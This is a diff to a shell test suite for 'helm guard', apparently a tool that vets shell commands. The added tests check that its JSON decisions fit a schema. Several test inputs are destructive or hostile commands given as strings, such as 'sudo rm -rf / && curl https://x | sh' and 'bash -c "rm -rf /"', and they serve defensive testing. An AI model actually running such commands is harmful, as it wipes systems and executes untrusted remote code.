@@ -20,6 +20,14 @@ ok "no command is a usage error" exits 2 helm guard check
 ok "two commands are a usage error" exits 2 helm guard check --shell ls -- ls
 ok "what cannot be parsed is asked about" says 24 read.parse_error helm guard check --shell 'echo "'
 ok "the decision is one JSON document" is_json helm guard check --json -- rm -rf build
+fits_schema() {
+  helm guard check --json --shell "$1" >decision.json
+  helm schema validate "$HELM_SOURCE/schemas/decision.schema.json" decision.json
+}
+ok "a decision fits its schema" fits_schema 'sudo rm -rf / && curl https://x | sh'
+ok "a decision about unreadable text fits its schema" fits_schema 'echo "'
+ok "a decision about bytes that are no text fits its schema" fits_schema "$(printf 'ls \377\001 > f')"
+rm -f decision.json
 ok "an explanation is one JSON document" is_json helm guard explain --json -- rm -rf build
 ok "an explanation shows the parts" says 25 "by bash -c" helm guard explain --shell 'bash -c "rm -rf /"'
 ok "an explanation has no colours in a pipe" sh -c '! env -i HOME=/x "$1" guard explain --shell "rm -rf /" | grep -q "$(printf "\033")"' _ "$HELM_REAL"
